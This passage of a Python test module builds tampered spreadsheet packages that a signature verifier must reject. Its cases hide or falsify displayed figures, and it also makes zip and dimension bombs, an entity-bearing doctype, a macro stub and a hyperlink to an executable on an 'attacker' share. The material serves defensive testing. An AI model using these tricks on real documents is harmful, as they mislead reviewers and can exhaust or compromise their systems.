"""A hostile corpus built from a genuine signed submission: every file changes what a person reads,
the package's structure, claims sizes it does not have, or is not a file at all — each with the reason
it must get. Used by tests/exchange/test_hostile.py on ``verify`` and on ``merge``.

The changes are made on the package's XML as a person's tool would leave it (Excel, LibreOffice, a
script): the signed payload is never touched, so only the checks of what is shown can catch them.
"""

from __future__ import annotations

import os
import re
import socket
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from dxdesk.exchange.errors import ReasonCode as R

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


class Package:
    """The parts of an .xlsx as text (XML) or bytes, in order; written back as a new zip."""

    def __init__(self, src: Path):
        with zipfile.ZipFile(src) as z:
            self.parts: dict[str, bytes] = {i.filename: z.read(i) for i in z.infolist()}
        self.extra: list[tuple[str, bytes]] = []  # appended as they are (duplicates allowed)

    def text(self, name: str) -> str:
        return self.parts[name].decode("utf-8")

    def set(self, name: str, text: str | bytes) -> None:
        self.parts[name] = text.encode("utf-8") if isinstance(text, str) else text

    def sub(self, name: str, pattern: str, repl: str, count: int = 1) -> None:
        new, n = re.subn(pattern, repl, self.text(name), count=count)
        assert n, f"{pattern!r} not found in {name}"
        self.set(name, new)

    def write(self, path: Path) -> None:
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
            for name, data in self.parts.items():
                z.writestr(name, data)
            with warnings.catch_warnings():  # a duplicate member is the point of some cases
                warnings.simplefilter("ignore", UserWarning)
                for name, data in self.extra:
                    z.writestr(name, data)

    # --- navigation ---------------------------------------------------------------------------
    def sheet_part(self, title: str) -> str:
        book = self.text("xl/workbook.xml")
        m = re.search(rf'<sheet [^>]*name="{re.escape(title)}"[^>]*r:id="(rId\d+)"', book) or re.search(
            rf'<sheet [^>]*r:id="(rId\d+)"[^>]*name="{re.escape(title)}"', book
        )
        assert m, title
        rels = self.text("xl/_rels/workbook.xml.rels")
        t = re.search(rf'<Relationship [^>]*Id="{m.group(1)}"[^>]*Target="([^"]+)"', rels) or re.search(
            rf'<Relationship [^>]*Target="([^"]+)"[^>]*Id="{m.group(1)}"', rels
        )
        assert t
        target = t.group(1).lstrip("/")
        return target if target.startswith("xl/") else "xl/" + target

    def cell(self, part: str, ref: str) -> re.Match[str]:
        m = re.search(rf'<c r="{ref}"[^>]*?(?:/>|>.*?</c>)', self.text(part))
        assert m, (part, ref)
        return m

    def set_cell(self, part: str, ref: str, xml: str) -> None:
        m = self.cell(part, ref)
        t = self.text(part)
        self.set(part, t[: m.start()] + xml + t[m.end() :])

    def add_style(self, *, num_fmt: str | None = None, font: str | None = None, like: int = 0) -> int:
        """A new cell format (copy of ``like``) with a new number format and/or font; its index."""
        styles = self.text("xl/styles.xml")
        xfs = re.search(r"<cellXfs[^>]*>(.*?)</cellXfs>", styles, re.S)
        assert xfs
        items = re.findall(r"<xf\b[^>]*?(?:/>|>.*?</xf>)", xfs.group(1), re.S)
        xf = items[like]
        if num_fmt is not None:
            fid = 300
            if "<numFmts" in styles:
                styles = re.sub(
                    r"(<numFmts[^>]*>)", rf'\1<numFmt numFmtId="{fid}" formatCode="{num_fmt}"/>', styles
                )
                styles = re.sub(r'<numFmts count="\d+"', '<numFmts count="99"', styles)
            else:
                styles = styles.replace(
                    "<fonts",
                    f'<numFmts count="1"><numFmt numFmtId="{fid}" formatCode="{num_fmt}"/></numFmts><fonts',
                    1,
                )
            xf = re.sub(r'numFmtId="\d+"', f'numFmtId="{fid}"', xf)
            xf = xf.replace("<xf ", '<xf applyNumberFormat="1" ', 1) if "applyNumberFormat" not in xf else xf
        if font is not None:
            fonts = re.search(r"<fonts[^>]*>(.*?)</fonts>", styles, re.S)
            assert fonts
            n = len(re.findall(r"<font\b", fonts.group(1)))
            styles = styles.replace("</fonts>", font + "</fonts>", 1)
            xf = re.sub(r'fontId="\d+"', f'fontId="{n}"', xf)
        n_xf = len(items)
        styles = styles.replace("</cellXfs>", xf + "</cellXfs>", 1)
        self.set("xl/styles.xml", styles)
        return n_xf

    def style_of(self, part: str, ref: str) -> int:
        m = re.search(r'\bs="(\d+)"', self.cell(part, ref).group(0))
        return int(m.group(1)) if m else 0

    def restyle(self, part: str, ref: str, style: int) -> None:
        c = self.cell(part, ref).group(0)
        new = (
            re.sub(r'\bs="\d+"', f's="{style}"', c)
            if ' s="' in c
            else c.replace(f'r="{ref}"', f'r="{ref}" s="{style}"', 1)
        )
        self.set_cell(part, ref, new)

    def insert_after(self, part: str, element: str, xml: str) -> None:
        """Insert ``xml`` right after the closing of ``element`` (e.g. ``sheetData``)."""
        t = self.text(part)
        end = t.find(f"</{element}>")
        if end >= 0:
            end += len(f"</{element}>")
        else:
            m = re.search(rf"<{element}\b[^>]*/>", t)
            assert m, element
            end = m.end()
        self.set(part, t[:end] + xml + t[end:])

    def add_part(self, name: str, data: str | bytes, content_type: str | None = None) -> None:
        self.set(name, data)
        if content_type:
            self.sub(
                "[Content_Types].xml",
                "</Types>",
                f'<Override PartName="/{name}" ContentType="{content_type}"/></Types>',
            )

    def add_rel(self, rels: str, rid: str, rtype: str, target: str, external: bool = False) -> None:
        mode = ' TargetMode="External"' if external else ""
        rel = f'<Relationship Id="{rid}" Type="{rtype}" Target="{target}"{mode}/>'
        if rels in self.parts:
            self.sub(rels, "</Relationships>", rel + "</Relationships>")
        else:
            self.set(
                rels,
                '<?xml version="1.0" encoding="UTF-8"?><Relationships '
                'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                + rel
                + "</Relationships>",
            )


@dataclass(frozen=True)
class Target:
    """Where to aim: a measure sheet, a bound number cell on it, a bound text cell, a label cell."""

    sheet: str
    number_ref: str
    number_display: str
    text_ref: str
    label_ref: str
    label: str


@dataclass(frozen=True)
class Case:
    name: str
    category: str  # appearance | structure | bomb | odd
    build: Callable[[Path, Path, Target], None]  # (genuine file, output path, target)
    verify: str  # reason code verify must give
    fragment: str = ""  # a part of the Japanese message
    merge: str | None = None  # reason code of the merge when it differs (the inbox decides first)


REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
CT = "application/vnd.openxmlformats-officedocument."


def _pkg_case(change: Callable[[Package, Target], None]) -> Callable[[Path, Path, Target], None]:
    def build(src: Path, out: Path, t: Target) -> None:
        p = Package(src)
        change(p, t)
        p.write(out)

    return build


def _sheet(p: Package, t: Target) -> str:
    return p.sheet_part(t.sheet)


def _new_sheet(p: Package, name: str, state: str = "", first: bool = False) -> None:
    sheet_xml = (
        f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{MAIN}"><sheetData><row r="1">'
        '<c r="A1" t="inlineStr"><is><t>目標値 99,999</t></is></c></row></sheetData></worksheet>'
    )
    p.add_part("xl/worksheets/sheet900.xml", sheet_xml, CT + "spreadsheetml.worksheet+xml")
    p.add_rel("xl/_rels/workbook.xml.rels", "rId900", REL + "worksheet", "worksheets/sheet900.xml")
    st = f' state="{state}"' if state else ""
    el = f'<sheet name="{name}" sheetId="900"{st} r:id="rId900"/>'
    if first:
        p.sub("xl/workbook.xml", "<sheets>", "<sheets>" + el)
    else:
        p.sub("xl/workbook.xml", "</sheets>", el + "</sheets>")


def _set_state(p: Package, name: str, state: str) -> None:
    p.sub(
        "xl/workbook.xml",
        rf'(<sheet [^>]*name="{re.escape(name)}"[^>]*?) state="[^"]*"',
        rf'\1 state="{state}"',
    )


def _row_attr(p: Package, t: Target, ref: str, attrs: str) -> None:
    row = re.match(r"[A-Z]+(\d+)", ref)
    assert row
    p.sub(_sheet(p, t), rf'<row r="{row.group(1)}"', f'<row r="{row.group(1)}" {attrs}')


def _zero_height(p: Package, t: Target) -> None:
    row = _row_of(t.number_ref)
    part = _sheet(p, t)
    p.sub(part, rf'(<row r="{row}"[^>]*?) ht="[^"]*"', r'\1 ht="0.5"')


def _row_of(ref: str) -> str:
    m = re.match(r"[A-Z]+(\d+)", ref)
    assert m
    return m.group(1)


def _col(p: Package, t: Target, ref: str, attrs: str) -> None:
    from dxdesk.exchange.reader import column_index

    letters = re.match(r"[A-Z]+", ref)
    assert letters
    n = column_index(letters.group(0))
    part = _sheet(p, t)
    text = p.text(part)
    # drop the column's own width so the new definition is the only one
    col = f'<col min="{n}" max="{n}" {attrs}/>'
    if "<cols>" in text:
        text = re.sub(rf'<col [^>]*min="{n}" max="{n}"[^>]*/>', "", text)
        text = text.replace("<cols>", "<cols>" + col, 1)
    else:
        text = text.replace("<sheetData", f"<cols>{col}</cols><sheetData", 1)
    p.set(part, text)


def _formula_cell(ref: str, formula: str, cached: str, *, text: bool = False) -> str:
    t = ' t="str"' if text else ""
    return f'<c r="{ref}"{t}><f>{formula}</f><v>{cached}</v></c>'


def _put_cell(p: Package, t: Target, ref: str, xml: str) -> None:
    """Add a cell in a new row below everything (row 900)."""
    part = _sheet(p, t)
    p.sub(part, "</sheetData>", f'<row r="900">{xml}</row></sheetData>')


def _merge(p: Package, t: Target, rng: str) -> None:
    part = _sheet(p, t)
    if "<mergeCells" in p.text(part):
        p.sub(part, r"(<mergeCells[^>]*>)", rf'\1<mergeCell ref="{rng}"/>')
    else:
        p.insert_after(part, "sheetData", f'<mergeCells count="1"><mergeCell ref="{rng}"/></mergeCells>')


def _next_col(ref: str) -> str:
    from dxdesk.exchange.reader import column_index, column_letters

    m = re.match(r"([A-Z]+)(\d+)", ref)
    assert m
    return (
        f"{column_letters(column_index(m.group(1)) - 1) if column_index(m.group(1)) > 1 else 'A'}{m.group(2)}"
    )


def _swap_values(p: Package, part: str, a: str, b: str) -> None:
    ca, cb = p.cell(part, a).group(0), p.cell(part, b).group(0)
    t = p.text(part)
    t = t.replace(ca, "\x00A\x00").replace(cb, ca.replace(f'r="{a}"', f'r="{b}"'))
    t = t.replace("\x00A\x00", cb.replace(f'r="{b}"', f'r="{a}"'))
    p.set(part, t)


def _number_format(fmt: str) -> Callable[[Package, Target], None]:
    def change(p: Package, t: Target) -> None:
        part = _sheet(p, t)
        s = p.add_style(num_fmt=fmt, like=p.style_of(part, t.number_ref))
        p.restyle(part, t.number_ref, s)

    return change


def _font(font: str, ref_of: Callable[[Target], str]) -> Callable[[Package, Target], None]:
    def change(p: Package, t: Target) -> None:
        part = _sheet(p, t)
        ref = ref_of(t)
        s = p.add_style(font=font, like=p.style_of(part, ref))
        p.restyle(part, ref, s)

    return change


def _new_format(
    edit: Callable[[str, str], tuple[str, str]], ref_of: Callable[[Target], str]
) -> Callable[[Package, Target], None]:
    """The cell in a copy of its cell format, changed by ``edit(styles, xf)`` → (styles, xf)."""

    def change(p: Package, t: Target) -> None:
        part = _sheet(p, t)
        ref = ref_of(t)
        styles = p.text("xl/styles.xml")
        xfs = re.search(r"<cellXfs[^>]*>(.*?)</cellXfs>", styles, re.S)
        assert xfs
        items = re.findall(r"<xf\b[^>]*?(?:/>|>.*?</xf>)", xfs.group(1), re.S)
        styles, xf = edit(styles, items[p.style_of(part, ref)])
        styles = styles.replace("</cellXfs>", xf + "</cellXfs>")
        p.set("xl/styles.xml", re.sub(r'<cellXfs count="\d+"', f'<cellXfs count="{len(items) + 1}"', styles))
        p.restyle(part, ref, len(items))

    return change


def _align(alignment: str, ref_of: Callable[[Target], str]) -> Callable[[Package, Target], None]:
    """The cell in a copy of its cell format with another alignment."""

    def edit(styles: str, xf: str) -> tuple[str, str]:
        xf = re.sub(r"<alignment[^>]*/>", "", xf)
        return styles, xf[:-2] + f">{alignment}</xf>" if xf.endswith("/>") else xf.replace(
            "</xf>", alignment + "</xf>"
        )

    return _new_format(edit, ref_of)


def _pattern_fill(fill: str, ref_of: Callable[[Target], str]) -> Callable[[Package, Target], None]:
    """The cell in a copy of its cell format with another fill (a pattern of two colours)."""

    def edit(styles: str, xf: str) -> tuple[str, str]:
        fills = re.search(r"<fills[^>]*>(.*?)</fills>", styles, re.S)
        assert fills
        n_fills = len(re.findall(r"<fill>.*?</fill>|<fill */>", fills.group(1), re.S))
        return styles.replace("</fills>", fill + "</fills>"), re.sub(
            r'fillId="\d+"', f'fillId="{n_fills}"', xf
        )

    return _new_format(edit, ref_of)


def _diagonal_border(styles: str, xf: str) -> tuple[str, str]:
    """A new border drawing both diagonals through the cell, for the copied cell format."""
    borders = re.search(r"<borders[^>]*>(.*?)</borders>", styles, re.S)
    assert borders
    n_borders = len(re.findall(r"<border\b[^>]*?(?:/>|>.*?</border>)", borders.group(1), re.S))
    border = '<border diagonalUp="1" diagonalDown="1"><left/><right/><top/><bottom/><diagonal style="thin"/></border>'
    return styles.replace("</borders>", border + "</borders>"), re.sub(
        r'borderId="\d+"', f'borderId="{n_borders}"', xf
    )


def _font_of_fill(p: Package, t: Target) -> None:
    """The label cell's text in the colour of its own (solid) fill."""
    part = _sheet(p, t)
    styles = p.text("xl/styles.xml")
    xfs = re.findall(
        r"<xf\b[^>]*?(?:/>|>.*?</xf>)",
        re.search(r"<cellXfs[^>]*>(.*?)</cellXfs>", styles, re.S).group(1),
        re.S,
    )
    fill_id = int(re.search(r'fillId="(\d+)"', xfs[p.style_of(part, t.label_ref)]).group(1))
    fills = re.findall(
        r"<fill>.*?</fill>|<fill */>", re.search(r"<fills[^>]*>(.*?)</fills>", styles, re.S).group(1), re.S
    )
    m = re.search(r'<fgColor rgb="([0-9A-F]{8})"', fills[fill_id])
    colour = m.group(1) if m else "FFFFFFFF"
    _font(
        f'<font><sz val="9"/><color rgb="{colour}"/><name val="游ゴシック"/></font>', lambda t: t.label_ref
    )(p, t)


def _element(element_xml: str, after: str = "sheetData") -> Callable[[Package, Target], None]:
    def change(p: Package, t: Target) -> None:
        p.insert_after(_sheet(p, t), after, element_xml)

    return change


def _extra_part(name: str, data: str, ct: str | None, rel: tuple[str, str, str] | None = None):
    def change(p: Package, t: Target) -> None:
        p.add_part(name, data, ct)
        if rel is not None:
            p.add_rel(rel[0], "rId990", rel[1], rel[2])

    return change


def _drawing(p: Package, t: Target) -> None:
    part = _sheet(p, t)
    p.add_part(
        "xl/drawings/drawing1.xml",
        '<?xml version="1.0" encoding="UTF-8"?><xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/'
        'drawingml/2006/spreadsheetDrawing"/>',
        CT + "drawing+xml",
    )
    rels = part.replace("worksheets/", "worksheets/_rels/") + ".rels"
    p.add_rel(rels, "rId991", REL + "drawing", "../drawings/drawing1.xml")
    p.insert_after(
        part,
        "sheetData",
        '<drawing xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId991"/>',
    )


def _comment(p: Package, t: Target) -> None:
    part = _sheet(p, t)
    p.add_part(
        "xl/comments1.xml",
        f'<?xml version="1.0" encoding="UTF-8"?><comments xmlns="{MAIN}"><authors><author>x</author></authors>'
        f'<commentList><comment ref="{t.number_ref}" authorId="0"><text><t>実は 99,999</t></text></comment>'
        "</commentList></comments>",
        CT + "spreadsheetml.comments+xml",
    )
    rels = part.replace("worksheets/", "worksheets/_rels/") + ".rels"
    p.add_rel(rels, "rId992", REL + "comments", "../comments1.xml")


def _hyperlink(p: Package, t: Target) -> None:
    part = _sheet(p, t)
    rels = part.replace("worksheets/", "worksheets/_rels/") + ".rels"
    p.add_rel(rels, "rId993", REL + "hyperlink", "file://///attacker/share/x.exe", external=True)
    p.insert_after(
        part,
        "sheetData",
        f'<hyperlinks><hyperlink xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
        f'ref="{t.text_ref}" r:id="rId993"/></hyperlinks>',
    )


def _defined_name(name: str, value: str, local: int | None = None) -> Callable[[Package, Target], None]:
    def change(p: Package, t: Target) -> None:
        sid = f' localSheetId="{local}"' if local is not None else ""
        el = f'<definedName name="{name}"{sid}>{value}</definedName>'
        if "<definedNames>" in p.text("xl/workbook.xml"):
            p.sub("xl/workbook.xml", "<definedNames>", "<definedNames>" + el)
        else:
            p.sub("xl/workbook.xml", "</sheets>", "</sheets><definedNames>" + el + "</definedNames>")

    return change


def _sheet_index(p: Package, name: str) -> int:
    names = re.findall(r'<sheet [^>]*name="([^"]*)"', p.text("xl/workbook.xml"))
    return names.index(name)


def _print_area(p: Package, t: Target) -> None:
    _defined_name("_xlnm.Print_Area", f"'{t.sheet}'!$A$1:$B$3", _sheet_index(p, t.sheet))(p, t)


def _print_titles(p: Package, t: Target) -> None:
    book = p.text("xl/workbook.xml")
    if "_xlnm.Print_Titles" in book:
        p.sub("xl/workbook.xml", r"(_xlnm\.Print_Titles[^>]*>)([^<]*)", r"\1'一覧'!$1:$9")
    else:
        _defined_name("_xlnm.Print_Titles", f"'{t.sheet}'!$1:$9", _sheet_index(p, t.sheet))(p, t)


def _shared_string_replace(old: str, new: str) -> Callable[[Package, Target], None]:
    def change(p: Package, t: Target) -> None:
        part = _sheet(p, t)
        c = p.cell(part, t.label_ref).group(0)
        assert f">{old}<" in c, c
        p.set_cell(part, t.label_ref, c.replace(f">{old}<", f">{new}<", 1))

    return change


def _rich_tiny(p: Package, t: Target) -> None:
    part = _sheet(p, t)
    c = p.cell(part, t.label_ref).group(0)
    m = re.search(r"<is>.*</is>", c)
    assert m, c
    rich = f'<is><r><t>{t.label}</t></r><r><rPr><sz val="1"/><color rgb="FFFFFFFF"/></rPr><t>（取消）</t></r></is>'
    p.set_cell(part, t.label_ref, c[: m.start()] + rich + c[m.end() :])


def _duplicate_member(p: Package, t: Target) -> None:
    part = _sheet(p, t)
    p.extra.append((part, p.parts[part]))


def _header(p: Package, t: Target) -> None:
    p.sub(_sheet(p, t), r"<oddHeader>[^<]*</oddHeader>", "<oddHeader>&amp;C下書き（未承認）</oddHeader>")


def _header_twice(p: Package, t: Target) -> None:
    """A second header after the signed one: LibreOffice prints both texts run together."""
    p.sub(_sheet(p, t), r"(<oddHeader>[^<]*</oddHeader>)", r"\1<oddHeader>&amp;L下書き（未承認）</oddHeader>")


def _format_twice(p: Package, t: Target) -> None:
    """A second row format before the signed one that hides every row by default."""
    p.sub(
        _sheet(p, t),
        r"<sheetFormatPr ",
        '<sheetFormatPr zeroHeight="1" defaultRowHeight="15" /><sheetFormatPr ',
    )


def _names_twice(p: Package, t: Target) -> None:
    """A second list of names with a print area that cuts the measure's sheet down to its title:
    LibreOffice prints only that."""
    p.sub(
        "xl/workbook.xml",
        "</definedNames>",
        f'</definedNames><definedNames><definedName name="_xlnm.Print_Area" localSheetId="{_sheet_index(p, t.sheet)}">'
        f"'{t.sheet}'!$A$1:$C$3</definedName></definedNames>",
    )


def _fonts_twice(p: Package, t: Target) -> None:
    """A second font list, every font of it white."""
    text = p.text("xl/styles.xml")
    fonts = re.search(r"<fonts[^>]*>.*?</fonts>", text, re.DOTALL)
    assert fonts is not None
    white = fonts.group(0).replace("<sz val=", '<color rgb="FFFFFFFF" /><sz val=')
    p.set("xl/styles.xml", text.replace("</fonts>", "</fonts>" + white, 1))


def _theme(change: Callable[[str], str]) -> Callable[[Package, Target], None]:
    def apply(p: Package, t: Target) -> None:
        text = p.text("xl/theme/theme1.xml")
        changed = change(text)
        assert changed != text
        p.set("xl/theme/theme1.xml", changed)

    return apply


def _theme_text_white(text: str) -> str:
    """The theme's text colour (dk1) made white: every automatic-theme text, the header and footer
    among them, prints white on white."""
    return re.sub(
        r"<a:dk1>.*?</a:dk1>", '<a:dk1><a:srgbClr val="FFFFFF"/></a:dk1>', text, count=1, flags=re.S
    )


def _tallest_row_cut(p: Package, t: Target) -> None:
    """The tallest row of the measure's sheet (a wrapped text of several lines) cut down to one line:
    LibreOffice prints its first line and a half, the rest is hidden."""
    part = _sheet(p, t)
    text = p.text(part)
    rows = re.findall(r'<row r="(\d+)" ht="([\d.]+)"', text)
    row, ht = max(rows, key=lambda r: float(r[1]))
    p.set(part, text.replace(f'<row r="{row}" ht="{ht}"', f'<row r="{row}" ht="15"', 1))


def _unwrap_longest_text(p: Package, t: Target) -> None:
    """The wrapped text of the tallest row (the measure's 概要) in a copy of its format without
    wrapping: LibreOffice prints it as one line that shrinks the whole page to a fraction."""
    part = _sheet(p, t)
    text = p.text(part)
    rows = re.findall(r'<row r="(\d+)" ht="([\d.]+)"', text)
    row, _ht = max(rows, key=lambda r: float(r[1]))
    m = re.search(rf'<c r="([A-Z]+{row})" s="\d+" t="inlineStr"><is><t>[^<]{{40,}}', text)
    assert m
    ref = m.group(1)
    _new_format(lambda styles, xf: (styles, xf.replace(' wrapText="1"', "")), lambda _t: ref)(p, t)


def _encoding(p: Package, t: Target) -> None:
    part = _sheet(p, t)
    text = p.text(part)
    text = re.sub(r"^<\?xml[^>]*\?>", "", text)
    p.set(part, ('<?xml version="1.0" encoding="iso-8859-1"?>' + text).encode("utf-8"))


def _doctype_lower(p: Package, t: Target) -> None:
    part = _sheet(p, t)
    text = re.sub(r"^<\?xml[^>]*\?>", "", p.text(part))
    p.set(part, '<?xml version="1.0" encoding="UTF-8"?><!doctype worksheet [<!entity a "b">]>' + text)


def _deep_payload(p: Package, t: Target) -> None:
    part = p.sheet_part("_dxdesk")
    deep = "[" * 200_000 + "]" * 200_000
    # the first payload chunk becomes a 400,000-character nesting (the chunk count is kept)
    p.set_cell(part, "B6", f'<c r="B6" t="inlineStr"><is><t>{deep}</t></is></c>')


def _range_bomb(p: Package, t: Target) -> None:
    p.sub(
        _sheet(p, t),
        "</sheetData>",
        '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>',
    )


def _dimension_bomb(p: Package, t: Target) -> None:
    p.sub(_sheet(p, t), r'<dimension ref="[^"]*" ?/>', '<dimension ref="A1:XFD1048576"/>')


def _merge_bomb(p: Package, t: Target) -> None:
    _merge(p, t, "A1:XFD1048576")


def _strings_bomb(p: Package, t: Target) -> None:
    p.add_part(
        "xl/sharedStrings.xml",
        f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{MAIN}" count="4000000000" uniqueCount="4000000000">'
        "<si><t>x</t></si></sst>",
        CT + "spreadsheetml.sharedStrings+xml",
    )
    p.add_rel("xl/_rels/workbook.xml.rels", "rId996", REL + "sharedStrings", "sharedStrings.xml")


def _zip_ratio_bomb(src: Path, out: Path, t: Target) -> None:
    Package(src).write(out)
    with (
        zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as z,
        z.open("xl/media/zeros.bin", "w", force_zip64=True) as fh,
    ):
        block = bytes(2**20)
        for _ in range(100):
            fh.write(block)


def _many_parts(src: Path, out: Path, t: Target) -> None:
    p = Package(src)
    for i in range(4100):
        p.extra.append((f"customXml/item{i}.xml", b"<a/>"))
    p.write(out)


def _big_row_number(p: Package, t: Target) -> None:
    p.sub(
        _sheet(p, t),
        "</sheetData>",
        '<row r="99999999"><c r="A99999999" t="inlineStr"><is><t>x</t></is></c></row></sheetData>',
    )


# --- odd files --------------------------------------------------------------------------------------


def _fifo(src: Path, out: Path, t: Target) -> None:
    os.mkfifo(out)


def _directory(src: Path, out: Path, t: Target) -> None:
    out.mkdir()


def _socket(src: Path, out: Path, t: Target) -> None:
    s = socket.socket(socket.AF_UNIX)
    s.bind(str(out))
    s.close()


def _device(src: Path, out: Path, t: Target) -> None:
    out.symlink_to("/dev/zero")


def _empty(src: Path, out: Path, t: Target) -> None:
    out.write_bytes(b"")


def _text(src: Path, out: Path, t: Target) -> None:
    out.write_text("目標,実績\n100,99999\n", encoding="utf-8")


def _html(src: Path, out: Path, t: Target) -> None:
    out.write_text("<!doctype html><html><body>提出ファイル</body></html>", encoding="utf-8")


def _truncated(src: Path, out: Path, t: Target) -> None:
    data = src.read_bytes()
    out.write_bytes(data[: len(data) // 2])


def _macro_xlsm(p: Package, t: Target) -> None:
    _macro(p, t)


def _macro(p: Package, t: Target) -> None:
    p.sub(
        "[Content_Types].xml",
        r"application/vnd\.openxmlformats-officedocument\.spreadsheetml\.sheet\.main\+xml",
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    p.add_part("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(512), None)
    p.add_rel(
        "xl/_rels/workbook.xml.rels",
        "rId995",
        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
        "vbaProject.bin",
    )


def _bad_name_garbage(src: Path, out: Path, t: Target) -> None:
    out.write_bytes(b"not a workbook")


def cases() -> list[Case]:
    A, S, B, D = "appearance", "structure", "bomb", "odd"
    pc = _pkg_case
    out: list[Case] = [
        # --- what a person reads ---------------------------------------------------------------
        Case(
            "label_swapped",
            A,
            pc(lambda p, t: _swap_values(p, _sheet(p, t), t.label_ref, t.text_ref)),
            R.EDITED_CELL,
            "表示セルが変更されています",
        ),
        Case(
            "label_text_changed",
            A,
            pc(lambda p, t: _shared_string_replace(t.label, "（参考）" + t.label)(p, t)),
            R.EDITED_CELL,
            "表示セルが変更されています",
        ),
        Case(
            "number_format_literal_99999",
            A,
            pc(_number_format("&quot;99,999&quot;")),
            R.APPEARANCE,
            "の表示形式が変更されています",
        ),
        Case(
            "number_format_hidden", A, pc(_number_format(";;;")), R.APPEARANCE, "表示形式が変更されています"
        ),
        Case(
            "number_format_scaled",
            A,
            pc(_number_format("#,##0,")),
            R.APPEARANCE,
            "表示形式が変更されています",
        ),
        Case(
            "number_format_more_decimals",
            A,
            pc(_number_format("#,##0.000")),
            R.APPEARANCE,
            "表示形式が変更されています",
        ),
        Case(
            "number_format_percent", A, pc(_number_format("0%")), R.APPEARANCE, "表示形式が変更されています"
        ),
        Case(
            "number_format_coloured_sections",
            A,
            pc(_number_format("[White]#,##0;[Red]-#,##0")),
            R.APPEARANCE,
            "表示形式が変更されています",
        ),
        Case(
            "text_format_with_literal",
            A,
            pc(
                lambda p, t: (
                    lambda part: p.restyle(
                        part,
                        t.text_ref,
                        p.add_style(num_fmt="&quot;（削除）&quot;@", like=p.style_of(part, t.text_ref)),
                    )
                )(_sheet(p, t))
            ),
            R.APPEARANCE,
            "表示形式が変更されています",
        ),
        Case(
            "conditional_format",
            A,
            pc(
                _element(
                    '<conditionalFormatting sqref="A1:Z200"><cfRule type="expression" dxfId="0" priority="1"><formula>TRUE</formula></cfRule></conditionalFormatting>'
                )
            ),
            R.APPEARANCE,
            "条件付き書式",
        ),
        Case(
            "data_validation_prompt",
            A,
            pc(
                _element(
                    '<dataValidations count="1"><dataValidation showInputMessage="1" prompt="実績は 99,999 です" sqref="A1"/></dataValidations>'
                )
            ),
            R.APPEARANCE,
            "入力規則",
        ),
        Case("text_box_drawing", A, pc(_drawing), R.ACTIVE_CONTENT, "図形"),
        Case("comment_note", A, pc(_comment), R.ACTIVE_CONTENT, "コメント"),
        Case(
            "new_visible_sheet",
            A,
            pc(lambda p, t: _new_sheet(p, "訂正")),
            R.APPEARANCE,
            "署名されていないシート「訂正」があります",
        ),
        Case(
            "look_alike_sheet_in_front",
            A,
            pc(lambda p, t: (_new_sheet(p, t.sheet + " ", first=True), _set_state(p, t.sheet, "veryHidden"))),
            R.APPEARANCE,
            "署名されていないシート「",
        ),
        Case(
            "same_name_sheet_twice",
            A,
            pc(lambda p, t: _new_sheet(p, t.sheet)),
            R.APPEARANCE,
            "同じ名前のシート",
        ),
        Case(
            "visible_sheet_hidden",
            A,
            pc(lambda p, t: _set_state(p, t.sheet, "hidden")),
            R.APPEARANCE,
            "非表示にされています",
        ),
        Case(
            "payload_sheet_shown",
            A,
            pc(
                lambda p, t: p.sub(
                    "xl/workbook.xml", r'(<sheet [^>]*name="_dxdesk"[^>]*?) state="veryHidden"', r"\1"
                )
            ),
            R.APPEARANCE,
            "署名データのシート",
        ),
        Case(
            "sheets_reordered",
            A,
            pc(lambda p, t: p.sub("xl/workbook.xml", r"(<sheet [^>]*/>)(<sheet [^>]*/>)", r"\2\1")),
            R.APPEARANCE,
            "順番",
        ),
        Case(
            "bound_row_hidden",
            A,
            pc(lambda p, t: _row_attr(p, t, t.number_ref, 'hidden="1"')),
            R.APPEARANCE,
            "非表示の行",
        ),
        Case(
            "bound_row_collapsed_outline",
            A,
            pc(lambda p, t: _row_attr(p, t, t.number_ref, 'hidden="1" outlineLevel="1" collapsed="1"')),
            R.APPEARANCE,
            "非表示の行",
        ),
        Case("bound_row_zero_height", A, pc(_zero_height), R.APPEARANCE, "非表示の行"),
        Case(
            "rows_hidden_by_default",
            A,
            pc(lambda p, t: p.sub(_sheet(p, t), r"<sheetFormatPr ", '<sheetFormatPr zeroHeight="1" ')),
            R.APPEARANCE,
            "非表示の行",
        ),
        Case(
            "bound_column_hidden",
            A,
            pc(lambda p, t: _col(p, t, t.number_ref, 'width="10" hidden="1" customWidth="1"')),
            R.APPEARANCE,
            "非表示の列",
        ),
        Case(
            "wrapped_text_row_cut_down", A, pc(_tallest_row_cut), R.APPEARANCE, "行の高さが縮められています"
        ),
        Case(
            "merged_range_of_a_long_text_shrunk",  # the 概要 wraps in two narrow columns, mostly hidden
            A,
            pc(
                lambda p, t: p.sub(
                    _sheet(p, t), r'<mergeCell ref="D13:[A-Z]+13" */>', '<mergeCell ref="D13:E13" />'
                )
            ),
            R.APPEARANCE,
            "セルの結合が変更されています",
        ),
        Case(
            "long_text_no_longer_wrapped",
            A,
            pc(_unwrap_longest_text),
            R.APPEARANCE,
            "折り返して表示する設定が外されています",
        ),
        Case(
            "column_widths_removed_and_default_narrowed",
            A,
            pc(
                lambda p, t: (
                    p.sub(_sheet(p, t), r"(?s)<cols>.*?</cols>", ""),
                    p.sub(_sheet(p, t), 'baseColWidth="8"', 'baseColWidth="1"'),
                )
            ),
            R.APPEARANCE,
            "列の幅が狭められています",
        ),
        Case(
            "number_column_narrowed",  # the figure shows as ###
            A,
            pc(lambda p, t: _col(p, t, t.number_ref, 'width="1" customWidth="1"')),
            R.APPEARANCE,
            "列の幅が狭められています",
        ),
        Case(
            "bound_column_zero_width",
            A,
            pc(lambda p, t: _col(p, t, t.number_ref, 'width="0.1" customWidth="1"')),
